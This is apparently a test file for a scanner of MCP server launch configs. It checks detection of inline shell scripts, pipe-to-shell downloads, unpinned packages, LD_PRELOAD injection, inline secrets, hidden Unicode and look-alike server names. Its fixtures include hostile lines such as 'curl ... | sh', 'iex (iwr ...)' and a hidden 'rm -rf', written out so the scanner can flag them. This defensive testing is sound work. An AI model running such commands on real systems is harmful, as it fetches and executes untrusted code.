import { test } from 'node:test';
import assert from 'node:assert/strict';
import { checkAcrossConfigs, checkLaunchSpec, launchRules } from '../../../../src/core/checks/launch/index';
import type { Finding } from '../../../../src/core/types';
import { spec, type SpecInput } from './helpers';

function run(input: SpecInput): Finding[] {
  return checkLaunchSpec(spec(input));
}
function only(input: SpecInput, ruleId: string): Finding[] {
  return run(input).filter((f) => f.ruleId === ruleId);
}
function expectOne(input: SpecInput, ruleId: string, severity: string, pointer: string): Finding {
  const found = only(input, ruleId);
  assert.equal(found.length, 1, `expected one ${ruleId} in ${JSON.stringify(input)}, got ${JSON.stringify(run(input))}`);
  assert.equal(found[0]!.severity, severity);
  assert.equal(found[0]!.pointer, pointer);
  return found[0]!;
}
function expectNone(input: SpecInput, ruleId: string): void {
  assert.deepEqual(only(input, ruleId), [], `unexpected ${ruleId} for ${JSON.stringify(input)}`);
}

test('rule ids are unique and every rule has a description', () => {
  const ids = launchRules.map((r) => r.id);
  assert.equal(new Set(ids).size, ids.length);
  for (const r of launchRules) assert.ok(r.description.length > 10, r.id);
});

test('MCPoison: echo safe has no finding; cmd.exe /c shell.bat is high at /args/1', () => {
  assert.deepEqual(run({ command: 'echo', args: ['safe'] }), []);
  const f = expectOne({ command: 'cmd.exe', args: ['/c', 'shell.bat'] }, 'shell-inline-script', 'high', '/args/1');
  assert.match(f.message, /shell\.bat/);
});

test('shell-inline-script: sh/bash/zsh/dash -c, full paths, cmd /k, powershell -Command/-EncodedCommand', () => {
  expectOne({ command: 'sh', args: ['-c', 'node server.js'] }, 'shell-inline-script', 'high', '/args/1');
  expectOne({ command: '/bin/bash', args: ['-lc', 'x'] }, 'shell-inline-script', 'high', '/args/1');
  expectOne({ command: 'bash', args: ['-o', 'pipefail', '-c', 'x'] }, 'shell-inline-script', 'high', '/args/3');
  expectOne({ command: '/usr/bin/zsh', args: ['-c', 'x'] }, 'shell-inline-script', 'high', '/args/1');
  expectOne({ command: 'dash', args: ['-c', 'x'] }, 'shell-inline-script', 'high', '/args/1');
  expectOne({ command: 'C:\\Windows\\System32\\cmd.exe', args: ['/K', 'run.bat'] }, 'shell-inline-script', 'high', '/args/1');
  expectOne({ command: 'cmd', args: ['/s', '/c', 'npx foo'] }, 'shell-inline-script', 'high', '/args/2');
  expectOne({ command: 'powershell.exe', args: ['-NoProfile', '-ExecutionPolicy', 'Bypass', '-Command', 'iex x'] }, 'shell-inline-script', 'high', '/args/4');
  expectOne({ command: 'pwsh', args: ['-EncodedCommand', 'SQBFAFgA'] }, 'shell-inline-script', 'high', '/args/1');
  expectOne({ command: 'pwsh', args: ['-c', 'Get-Date'] }, 'shell-inline-script', 'high', '/args/1');
  expectOne({ command: 'sh -c "node x.js"' }, 'shell-inline-script', 'high', '/command');
  // through a wrapper
  expectOne({ command: 'env', args: ['FOO=1', 'bash', '-c', 'x'] }, 'shell-inline-script', 'high', '/args/3');
});

test('shell-inline-script: a shell running a script file, or -c after the script, is not flagged', () => {
  expectNone({ command: 'bash', args: ['./run.sh'] }, 'shell-inline-script');
  expectNone({ command: 'bash', args: ['run.sh', '-c', 'x'] }, 'shell-inline-script');
  expectNone({ command: 'powershell', args: ['-File', 'srv.ps1', '-c', 'x'] }, 'shell-inline-script');
  expectNone({ command: 'node', args: ['-c', 'x'] }, 'shell-inline-script');
  expectNone({ command: 'cmdtool', args: ['/c'] }, 'shell-inline-script');
});

test('pipe-to-shell: curl|sh, wget|bash, iex (iwr …), bash <(curl …); plain curl is not flagged', () => {
  expectOne({ command: 'sh', args: ['-c', 'curl -fsSL https://x.example/i.sh | sh'] }, 'pipe-to-shell', 'high', '/args/1');
  expectOne({ command: 'bash', args: ['-c', 'wget -qO- http://x.example/i | sudo bash'] }, 'pipe-to-shell', 'high', '/args/1');
  expectOne({ command: 'powershell', args: ['-c', 'iex (iwr https://x.example/a.ps1)'] }, 'pipe-to-shell', 'high', '/args/1');
  expectOne({ command: 'bash', args: ['-c', 'bash <(curl -s https://x.example)'] }, 'pipe-to-shell', 'high', '/args/1');
  // split across tokens
  expectOne({ command: 'curl', args: ['https://x.example/i.sh', '|', 'sh'] }, 'pipe-to-shell', 'high', '/command');
  expectNone({ command: 'curl', args: ['https://x.example/i.sh', '-o', 'i.sh'] }, 'pipe-to-shell');
  expectNone({ command: 'sh', args: ['-c', 'cat file | sh'] }, 'pipe-to-shell');
});

test('unpinned-package: npx/bunx/pnpm dlx/uvx/pipx run with and without exact versions', () => {
  expectNone({ command: 'npx', args: ['-y', '@scope/pkg@1.2.3'] }, 'unpinned-package');
  expectOne({ command: 'npx', args: ['-y', '@scope/pkg'] }, 'unpinned-package', 'medium', '/args/1');
  expectOne({ command: 'npx', args: ['-y', 'pkg@latest'] }, 'unpinned-package', 'medium', '/args/1');
  expectOne({ command: 'npx', args: ['pkg@^1.2.0'] }, 'unpinned-package', 'medium', '/args/0');
  expectNone({ command: 'npx', args: ['--yes', 'pkg@1.0.0-beta.1', '--port', '3000'] }, 'unpinned-package');
  expectOne({ command: 'npx', args: ['-p', 'left-pad', 'bin'] }, 'unpinned-package', 'medium', '/args/1');
  expectNone({ command: 'npx', args: ['--package=tool@2.0.0', 'bin'] }, 'unpinned-package');
  expectOne({ command: 'bunx', args: ['mcp-thing'] }, 'unpinned-package', 'medium', '/args/0');
  expectOne({ command: 'pnpm', args: ['dlx', '@a/b@next'] }, 'unpinned-package', 'medium', '/args/1');
  expectNone({ command: 'pnpm', args: ['dlx', '@a/b@3.1.4'] }, 'unpinned-package');
  expectOne({ command: 'uvx', args: ['mcp-server-fetch'] }, 'unpinned-package', 'medium', '/args/0');
  expectNone({ command: 'uvx', args: ['mcp-server-fetch==2025.4.7'] }, 'unpinned-package');
  expectNone({ command: 'uvx', args: ['mcp-server-fetch@2025.4.7'] }, 'unpinned-package');
  expectOne({ command: 'uvx', args: ['--from', 'git+https://github.com/a/b', 'srv'] }, 'unpinned-package', 'medium', '/args/1');
  expectNone({ command: 'uvx', args: ['--from', 'git+https://github.com/a/b@0123456789abcdef0123456789abcdef01234567', 'srv'] }, 'unpinned-package');
  expectOne({ command: 'pipx', args: ['run', 'some-tool'] }, 'unpinned-package', 'medium', '/args/1');
  expectNone({ command: 'pipx', args: ['run', '--spec', 'some-tool==1.0', 'tool'] }, 'unpinned-package');
  expectNone({ command: 'npx', args: ['./local-server'] }, 'unpinned-package');
  expectNone({ command: 'node', args: ['server.js'] }, 'unpinned-package');
});

test('unpinned-image: docker/podman run without a digest', () => {
  const digest = 'sha256:' + 'a'.repeat(64);
  expectOne({ command: 'docker', args: ['run', '-i', '--rm', '-e', 'TOKEN', 'ghcr.io/github/github-mcp-server'] }, 'unpinned-image', 'medium', '/args/5');
  expectOne({ command: 'podman', args: ['run', '--rm', 'mcp/fetch:latest'] }, 'unpinned-image', 'medium', '/args/2');
  expectNone({ command: 'docker', args: ['run', '-i', '--rm', `mcp/fetch@${digest}`] }, 'unpinned-image');
  expectNone({ command: 'docker', args: ['ps'] }, 'unpinned-image');
});

test('env-injection: LD_PRELOAD/DYLD_INSERT_LIBRARIES/NODE_OPTIONS --require high, others medium, plain env nothing', () => {
  expectOne({ command: 'node', env: { LD_PRELOAD: '/tmp/x.so' } }, 'env-injection', 'high', '/env/LD_PRELOAD');
  expectOne({ command: 'node', env: { DYLD_INSERT_LIBRARIES: 'x.dylib' } }, 'env-injection', 'high', '/env/DYLD_INSERT_LIBRARIES');
  expectOne({ command: 'node', env: { NODE_OPTIONS: '--require ./hook.js' } }, 'env-injection', 'high', '/env/NODE_OPTIONS');
  expectOne({ command: 'node', env: { NODE_OPTIONS: '--max-old-space-size=4096' } }, 'env-injection', 'medium', '/env/NODE_OPTIONS');
  expectOne({ command: 'node', env: { DYLD_LIBRARY_PATH: '/x' } }, 'env-injection', 'medium', '/env/DYLD_LIBRARY_PATH');
  expectOne({ command: 'python', env: { PYTHONPATH: './lib' } }, 'env-injection', 'medium', '/env/PYTHONPATH');
  expectOne({ command: 'node', env: { LD_LIBRARY_PATH: '/x' } }, 'env-injection', 'medium', '/env/LD_LIBRARY_PATH');
  expectOne({ command: 'env', args: ['LD_PRELOAD=/tmp/x.so', 'node'] }, 'env-injection', 'high', '/args/0');
  expectNone({ command: 'node', env: { DEBUG: '1', PATH: '/usr/bin', ENV: 'production' } }, 'env-injection');
});

test('plain-http: non-loopback http flagged, loopback and https not', () => {
  expectOne({ url: 'http://example.com/mcp' }, 'plain-http', 'medium', '/url');
  expectOne({ url: 'http://10.0.0.5:8080/mcp', raw: { serverUrl: 'http://10.0.0.5:8080/mcp' } }, 'plain-http', 'medium', '/serverUrl');
  expectNone({ url: 'http://127.0.0.1:3000' }, 'plain-http');
  expectNone({ url: 'http://127.8.9.1:3000/mcp' }, 'plain-http');
  expectNone({ url: 'http://localhost:3000/mcp' }, 'plain-http');
  expectNone({ url: 'http://[::1]:3000/mcp' }, 'plain-http');
  expectNone({ url: 'https://example.com/mcp' }, 'plain-http');
  expectNone({ url: 'http://${env:HOST}/mcp' }, 'plain-http');
  expectOne({ command: 'npx', args: ['mcp-remote@1.0.0', 'http://mcp.example.org/sse'] }, 'plain-http', 'medium', '/args/1');
  expectNone({ command: 'npx', args: ['mcp-remote@1.0.0', 'http://localhost:9000/sse'] }, 'plain-http');
});

test('remote-server: https to a remote host is info only', () => {
  expectOne({ url: 'https://api.example.com/mcp' }, 'remote-server', 'info', '/url');
  expectNone({ url: 'https://localhost:8443/mcp' }, 'remote-server');
  expectNone({ command: 'node' }, 'remote-server');
});

test('inline-secret: tokens in env/headers/args/url are high and masked; references are fine', () => {
  const ghp = 'ghp_' + 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8';
  let f = expectOne({ command: 'npx', env: { GITHUB_TOKEN: ghp } }, 'inline-secret', 'high', '/env/GITHUB_TOKEN');
  assert.ok(!f.message.includes(ghp.slice(4)), 'message must not show the secret');
  assert.match(f.message, /ghp_…\(40 chars\)/);
  f = expectOne({ url: 'https://x.example/mcp', headers: { Authorization: 'Bearer abcdefghijklmnopqrstuvwxyz123456' } }, 'inline-secret', 'high', '/headers/Authorization');
  assert.ok(!f.message.includes('abcdefghijklmnop'));
  expectOne({ command: 'srv', args: ['--api-key', 'Zx8Qp2Lm9Vt4Rw7Yk3Hs'] }, 'inline-secret', 'high', '/args/1');
  expectOne({ command: 'srv', args: ['--token=xoxb-1234567890-abcdefghij'] }, 'inline-secret', 'high', '/args/0');
  expectOne({ command: 'aws-mcp', env: { AWS_ACCESS_KEY_ID: 'AKIAIOSFODNN7EXAMPLE' } }, 'inline-secret', 'high', '/env/AWS_ACCESS_KEY_ID');
  expectOne({ command: 'x', env: { OPENAI_API_KEY: 'sk-proj-abcdefghijklmnopqrstuvwx' } }, 'inline-secret', 'high', '/env/OPENAI_API_KEY');
  expectOne({ command: 'x', env: { DB_PASSWORD: 'q9W#e8R$t7Y%u6I^' } }, 'inline-secret', 'high', '/env/DB_PASSWORD');
  expectOne({ url: 'https://x.example/mcp?api_key=Zx8Qp2Lm9Vt4Rw7Yk3Hs' }, 'inline-secret', 'high', '/url');
  // references and non-secrets
  expectNone({ command: 'npx', env: { GITHUB_TOKEN: '${input:github_token}' } }, 'inline-secret');
  expectNone({ command: 'npx', env: { GITHUB_TOKEN: '${env:GITHUB_TOKEN}' } }, 'inline-secret');
  expectNone({ url: 'https://x.example/mcp', headers: { Authorization: 'Bearer ${input:token}' } }, 'inline-secret');
  expectNone({ command: 'x', env: { KEY_FILE: '/home/me/.keys/key.pem', MAX_TOKENS: '4096', AUTH_ENABLED: 'true' } }, 'inline-secret');
  expectNone({ command: 'x', env: { API_KEY: 'changeme' } }, 'inline-secret');
});

test('invisible-unicode: zero-width, bidi and tag characters in name/command/args/env are high', () => {
  expectOne({ name: 'git\u200Bhub', command: 'node' }, 'invisible-unicode', 'high', '');
  expectOne({ command: 'node', args: ['a\u202Eb'] }, 'invisible-unicode', 'high', '/args/0');
  expectOne({ command: 'node', env: { 'X\u2066': '1' } }, 'invisible-unicode', 'high', '/env/X\u2066');
  const tag = [...'rm -rf'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
  const f = expectOne({ command: 'node', env: { X: `ok${tag}` } }, 'invisible-unicode', 'high', '/env/X');
  assert.match(f.message, /rm -rf/);
  expectNone({ name: 'café-👨‍👩‍👧', command: 'node', args: ['نامه‌ها', '⚠️'] }, 'invisible-unicode');
});

test('trust-bypass: Gemini CLI trust: true is medium, other hosts or false nothing', () => {
  expectOne({ host: 'gemini-cli', command: 'node', raw: { trust: true } }, 'trust-bypass', 'medium', '/trust');
  expectNone({ host: 'gemini-cli', command: 'node', raw: { trust: false } }, 'trust-bypass');
  expectNone({ host: 'cursor', command: 'node', raw: { trust: true } }, 'trust-bypass');
});

test('checkAcrossConfigs: a server name that imitates another by look-alike characters is high, even in one script', () => {
  const trusted = spec({ name: 'github', scope: 'user', configFile: '/home/u/.cursor/mcp.json', command: 'npx' });
  const cyr = spec({ name: '\u0455\u0435\u0433\u0440\u0435\u0433', configFile: '/ws/.cursor/mcp.json', command: 'node' });
  const serp = spec({ name: 'serper', scope: 'user', configFile: '/home/u/.cursor/mcp.json', command: 'npx' });
  const mixed = spec({ name: 'g\u0456thub', configFile: '/ws/.vscode/mcp.json', command: 'node' });
  const res = checkAcrossConfigs([trusted, cyr, serp, mixed]);
  assert.equal(res.get(trusted), undefined, 'the imitated name gets nothing');
  assert.equal(res.get(serp), undefined);
  assert.deepEqual(res.get(mixed)?.map((f) => [f.ruleId, f.severity]), [['confusable-name', 'high']]);
  assert.match(res.get(mixed)![0]!.message, /looks like "github"/);
  // all-Cyrillic: no mixed script, so only the comparison with the other name catches it
  assert.equal(checkLaunchSpec(cyr).filter((f) => f.ruleId === 'confusable-name').length, 0);
  assert.deepEqual(res.get(cyr)?.map((f) => [f.ruleId, f.severity]), [['confusable-name', 'high']]);
  assert.match(res.get(cyr)![0]!.message, /looks like "serper"/);
});

test('checkAcrossConfigs: the same name in a workspace and a user config', () => {
  const a = spec({ name: 'github', command: 'npx', args: ['evil'], scope: 'workspace', configFile: '/ws/.vscode/mcp.json' });
  const b = spec({ name: 'github', command: 'npx', args: ['good'], scope: 'user', configFile: '/home/u/.config/Code/User/mcp.json' });
  const c = spec({ name: 'other', command: 'node', configFile: '/ws/.vscode/mcp.json' });
  const same1 = spec({ name: 'mem', command: 'node', scope: 'workspace', configFile: '/ws/.cursor/mcp.json', host: 'cursor' });
  const same2 = spec({ name: 'mem', command: 'node', scope: 'user', configFile: '/home/u/.cursor/mcp.json', host: 'cursor' });
  const res = checkAcrossConfigs([a, b, c, same1, same2]);
  assert.equal(res.get(a)?.[0]?.severity, 'medium');
  assert.equal(res.get(a)?.[0]?.ruleId, 'duplicate-server-name');
  assert.match(res.get(a)![0]!.message, /User\/mcp\.json/);
  assert.equal(res.get(b)?.[0]?.severity, 'medium');
  assert.equal(res.get(same1)?.[0]?.severity, 'info');
  assert.equal(res.has(c), false);
  // two entries of the same name in one file (duplicate key) are not this rule's business
  assert.equal(checkAcrossConfigs([spec({ name: 'x' }), spec({ name: 'x' })]).size, 0);
});

test('hostile specs never throw', () => {
  const weird = spec({ command: 'x' });
  (weird as unknown as Record<string, unknown>).args = [1, null, { a: 1 }, 'sh'];
  (weird as unknown as Record<string, unknown>).env = { A: 5 };
  (weird as unknown as Record<string, unknown>).raw = null;
  assert.doesNotThrow(() => checkLaunchSpec(weird));
  const huge = spec({ command: 'bash', args: ['-c', 'curl '.repeat(20_000)] });
  const t0 = performance.now();
  checkLaunchSpec(huge);
  assert.ok(performance.now() - t0 < 1000);
});

test('confusable-name: a server name or command that passes for another is medium; ordinary names are not', () => {
  const f = expectOne({ name: 'g\u0456thub', command: 'npx', args: ['-y', '@modelcontextprotocol/server-github@1.0.0'] }, 'confusable-name', 'medium', '');
  assert.match(f.message, /Latin and Cyrillic.*U\+0456/);
  expectOne({ name: 'fs', command: '/usr/local/bin/\uff4e\uff50\uff58', args: [] }, 'confusable-name', 'medium', '/command');
  for (const name of ['github', 'файлы', 'サーバー', 'search検索']) expectNone({ name, command: 'node', args: ['server.js'] }, 'confusable-name');
  expectNone({ name: 'x', command: '/home/пользователь/bin/node', args: [] }, 'confusable-name');
});
